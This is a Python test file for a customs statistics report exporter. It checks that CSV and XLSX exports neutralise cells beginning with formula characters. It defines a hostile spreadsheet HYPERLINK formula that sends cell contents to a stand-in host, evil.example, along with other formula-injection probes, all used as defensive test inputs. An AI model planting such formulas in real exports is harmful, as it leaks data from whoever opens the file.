"""Exports open safely in a spreadsheet: no cell becomes a formula (issue 14, "Exports")."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from karakoram.domain.statistics.periods import Period
from karakoram.entrypoints.reports import neutralised, to_csv, to_xlsx
from karakoram.services.statistics.shapes import MirrorConsignment, MirrorQuery, MirrorReport

HOSTILE_MRN = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'


def _mirror(partner_mrn: str, trader: str = "91650100MA77XY1234") -> MirrorReport:
    flagged = MirrorConsignment(
        ucr="UCR-1", mrn="26CNKSG0000000001", partner_mrn=partner_mrn, trader=trader,
        ours=Decimal("100"), theirs=Decimal("200"), our_mass=Decimal("1"),
        their_mass=Decimal("1"), our_quantity=1.0, their_quantity=1.0,
        our_hs6="847130", their_hs6="847130",
    )  # fmt: skip
    query = MirrorQuery(Period(date(2026, 1, 1), date(2026, 1, 31)))
    return MirrorReport(query, 1, 0, [], [], [flagged], ["a note"])


def test_a_partner_mrn_formula_is_plain_text_in_the_csv() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(_mirror(HOSTILE_MRN)))))
    cell = rows[1][rows[0].index("partner_mrn")]
    assert cell == "'" + HOSTILE_MRN


def test_a_partner_mrn_formula_is_plain_text_in_the_xlsx() -> None:
    book = load_workbook(io.BytesIO(to_xlsx(_mirror(HOSTILE_MRN, trader="@SUM(1+1)"))))
    sheet = book.active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    row = sheet[2]
    mrn_cell = row[header.index("partner_mrn")]
    assert mrn_cell.data_type == "s" and mrn_cell.value == "'" + HOSTILE_MRN
    assert row[header.index("trader")].value == "'@SUM(1+1)"
    formulas = [c.coordinate for r in sheet.iter_rows() for c in r if c.data_type == "f"]
    assert formulas == []


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-12.5", "-12.5"),  # a negative number stays a number
        ("plain", "plain"),
        (Decimal("-3"), Decimal("-3")),
        (None, None),
    ],
)
def test_cells_that_start_a_formula_are_neutralised(value: object, expected: object) -> None:
    assert neutralised(value) == expected
